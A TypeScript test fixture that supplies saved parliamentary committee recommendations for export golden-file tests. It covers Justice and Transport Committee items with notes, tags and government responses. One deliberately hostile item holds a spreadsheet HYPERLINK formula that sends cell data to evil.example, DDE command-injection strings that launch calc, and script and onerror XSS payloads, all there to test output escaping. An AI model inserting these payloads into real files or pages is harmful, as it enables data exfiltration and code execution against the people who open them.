import { itemKey } from '@/utils/model/items';
import { type SavedItem } from '@/utils/model/model';

/**
 * The saved items every export golden file is made from. Recommendation texts are the Justice
 * Committee fixture's (tests/fixtures/pages/commons-report-justice-hc304, composed in the style of
 * HC 304), the Accountability Index page (shared/seed/tracker-page.txt, verbatim) and the Transport
 * Committee's HC 251 list (shared/corpus, verbatim); readings, notes, tags and the hostile item are
 * composed for these tests.
 */

/** When the golden files were "exported": 25 November 2026, noon UTC. */
export const NOW = Date.UTC(2026, 10, 25, 12, 0, 0);

const JUSTICE_KEY = 'commons/5803/cmjust/HC304';
const JUSTICE_URL = 'https://publications.parliament.uk/pa/cm5803/cmselect/cmjust/304/report.html';
const JUSTICE_TITLE = 'Pre-legislative scrutiny of the draft Victims Bill';
const TRACKER_KEY = 'accountabilityindex/committees/3/recommendation/1593';
const TRANSPORT_KEY = 'commons/200405/cmtran/HC251';
const TRANSPORT_URL = 'https://publications.parliament.uk/pa/cm200405/cmselect/cmtran/251/25107.htm';

/** A word of 100,000 characters. */
export const LONG_WORD = 'Ab'.repeat(50_000);

export const HOSTILE_TEXT =
  '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the full report") We applaud the Department, "as quoted", ' +
  'for sharing plans early, however late;\nsee <script>alert(1)</script> and [click](javascript:alert(1)) or \u202Eevil\u202C text.';

export const HOSTILE_NOTE = [
  '-2+3 is also a formula.',
  '# Not a heading',
  '> not a quote',
  '1. not a list',
  '*not bold* _not italic_ `not code` a|b ~~not struck~~ $x$',
  'www.evil.example mail@evil.example http://evil.example/x &#106;avascript:alert(1) <img src=x onerror=alert(1)>',
  '',
  LONG_WORD,
].join('\n');

function item(reportKey: string, number: string, fields: Omit<SavedItem, 'key' | 'number' | 'reportKey' | 'quote'>): SavedItem {
  return { key: itemKey(reportKey, number), number, reportKey, quote: { exact: fields.text, prefix: '', suffix: '' }, ...fields };
}

export const SAMPLE_ITEMS: SavedItem[] = [
  item(JUSTICE_KEY, '5', {
    text: 'The principles in clause 2 are expressed at so high a level that they add little to the existing Code, and they would give victims nothing on which they could rely if agencies fall short. We recommend that clause 2 be amended so that the Bill sets out on its face the core entitlements of the Code: to be given information about the case, to be referred to support services, to make a Victim Personal Statement, to request a review of a decision not to charge, and to make a complaint.',
    section: 'Clauses 2 to 4, the Code of Practice for Victims of Crime',
    paragraphRefs: ['14', '15'],
    reading: { status: 'pending', source: 'default' },
    reportTitle: JUSTICE_TITLE,
    published: '2022-10-14',
    committee: 'Justice Committee',
    pageUrl: JUSTICE_URL,
    pageTitle: `${JUSTICE_TITLE} - Justice Committee - House of Commons`,
    savedAt: Date.UTC(2026, 9, 2, 10, 15),
    updatedAt: Date.UTC(2026, 9, 20, 16, 40),
    note: "Raise at the Bill's second reading.\nCompare with the 2020 Code, section 4.",
    tags: ['victims bill'],
  }),
  item(JUSTICE_KEY, '2', {
    text: 'The Government should respond to this Report before the Bill is introduced. When the Bill is introduced, the Government should explain which of our recommendations it has accepted and, where it has not, why not.',
    section: 'Introduction',
    paragraphRefs: ['6'],
    reading: {
      status: 'noted',
      source: 'classifier',
      confidence: 0.64,
      evidence: 'The Government notes the Committee’s request for a response before introduction.',
    },
    reportTitle: JUSTICE_TITLE,
    published: '2022-10-14',
    committee: 'Justice Committee',
    pageUrl: JUSTICE_URL,
    pageTitle: `${JUSTICE_TITLE} - Justice Committee - House of Commons`,
    savedAt: Date.UTC(2026, 9, 1, 9, 30),
    updatedAt: Date.UTC(2026, 9, 3, 11, 5),
    note: '',
    tags: ['victims bill', 'timing'],
    statusOverride: {
      status: 'accepted',
      reason: 'The response was published before the Bill was introduced, as asked.',
      at: Date.UTC(2026, 9, 3, 11, 5),
    },
  }),
  item(TRACKER_KEY, '7', {
    text: 'We call for an immediate end to the sharing of victims’ and witnesses’ data between the police and the Home Office for immigration enforcement purposes and the introduction of a complete firewall for those groups. We recommend that the draft Bill includes a provision stating that victims’ and witnesses’ data cannot be shared by the police with Immigration Enforcement and that entitlements in the Code will not be restricted on the basis of immigration status.',
    headline: "Introduce a complete firewall preventing police from sharing victims' data for immigration enforcement.",
    section: 'Clauses 2 to 4, the Code of Practice for Victims of Crime',
    paragraphRefs: ['22'],
    reading: { status: 'rejected', source: 'tracker', sourceName: 'Accountability Index' },
    response: {
      summary:
        'The government rejects the recommendation for an immediate end to data sharing between police and the Home Office for immigration enforcement and the introduction of a complete firewall, citing a Home Office review that found such restrictions inoperable. It notes existing police discretion and specific protocols for domestic abuse victims but considers no broader changes necessary.',
      summarySource: 'tracker',
      respondent: 'HM Government',
    },
    committee: 'Justice Committee',
    pageUrl: 'https://accountabilityindex.uk/committees/3/recommendation/1593/',
    pageTitle: 'Recommendation 7 | Justice Committee | Accountability Index',
    savedAt: Date.UTC(2026, 9, 5, 14, 0),
    updatedAt: Date.UTC(2026, 9, 5, 14, 2),
    note: 'Cite in the migrant victims briefing.',
    tags: ['immigration', 'data sharing'],
  }),
  item(TRANSPORT_KEY, '1', {
    text: 'Each Department has its natural group of "clients", and may not readily recognise when its policies affect the "clients" of another Department. Even when the Government sets itself admirable targets, such as that to reduce road death and injury, departments such as the Home Office can fail to work as they should to implement it. We believe that part of our value is that we can take evidence from across government, and challenge Government Departments to act as part of a greater whole.',
    paragraphRefs: ['14'],
    reading: { status: 'pending', source: 'default' },
    reportTitle: 'Transport Committee, First Report of Session 2004–05',
    committee: 'Transport Committee',
    pageUrl: TRANSPORT_URL,
    pageTitle: 'House of Commons - Transport - First Report',
    savedAt: Date.UTC(2026, 10, 2, 8, 0),
    updatedAt: Date.UTC(2026, 10, 2, 8, 0),
    note: '',
    tags: [],
  }),
  item(TRANSPORT_KEY, '3', {
    text: HOSTILE_TEXT,
    headline: "@SUM(1+1)*cmd|' /C calc'!A0",
    paragraphRefs: ['25'],
    reading: { status: 'accepted', source: 'classifier', confidence: 0.91, evidence: '+44 "We accept this recommendation."' },
    reportTitle: 'Transport Committee, First Report of Session 2004–05',
    committee: 'Transport Committee',
    pageUrl: TRANSPORT_URL,
    pageTitle: 'House of Commons - Transport - First Report',
    savedAt: Date.UTC(2026, 10, 2, 8, 5),
    updatedAt: Date.UTC(2026, 10, 24, 17, 45),
    note: HOSTILE_NOTE,
    tags: ["=cmd|' /C calc'!A0", 'transport'],
  }),
];
